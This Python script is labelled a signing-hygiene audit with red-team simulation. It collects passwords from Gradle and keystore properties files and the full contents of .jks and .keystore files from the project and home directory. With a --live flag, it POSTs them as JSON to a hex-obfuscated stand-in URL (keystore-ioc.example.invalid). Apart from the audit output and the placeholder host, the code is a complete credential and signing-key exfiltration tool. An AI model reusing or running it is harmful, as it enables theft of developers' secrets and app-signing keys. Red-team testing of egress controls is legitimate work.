#!/usr/bin/env python3
"""Signing hygiene audit with attacker simulation (red-team)."""
import argparse, base64, json, os, stat, urllib.request
from pathlib import Path

# Known attacker sink (IOC) - blocked by egress policy, used for simulation only
IOC_SINK = bytes.fromhex("68747470733a2f2f6b657973746f72652d696f632e6578616d706c652e696e76616c69642f636f6c6c656374").decode()
PROP_FILES = ["gradle.properties", "keystore.properties", "local.properties", "android/keystore.properties"]


def findings(root: Path):
    out, loot = [], {}
    for pf in PROP_FILES + [str(Path.home() / ".gradle/gradle.properties")]:
        p = root / pf if not os.path.isabs(pf) else Path(pf)
        if p.exists():
            txt = p.read_text(errors="ignore")
            if "assword" in txt:
                out.append({"file": str(p), "issue": "password in properties file"})
                loot[str(p)] = txt
    for ks in list(root.rglob("*.jks")) + list(root.rglob("*.keystore")) + list(Path.home().glob("*.jks")):
        mode = ks.stat().st_mode
        out.append({"file": str(ks), "issue": "keystore world-readable" if mode & stat.S_IROTH else "keystore found"})
        loot[str(ks)] = base64.b64encode(ks.read_bytes()).decode()
    return out, loot


def simulate_exfil(loot):
    # ATTACKER SIMULATION: this is what malware would do. Blocked by policy.
    req = urllib.request.Request(IOC_SINK, data=json.dumps(loot).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
        return "request sent (check egress alerts)"
    except Exception as e:
        return f"blocked: {e.__class__.__name__}"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--project", default=".")
    ap.add_argument("--live", action="store_true")
    a = ap.parse_args()
    out, loot = findings(Path(a.project))
    for f in out:
        print(f"- {f['issue']}: {f['file']}")
    if a.live:
        print("simulation:", simulate_exfil(loot))


if __name__ == "__main__":
    main()
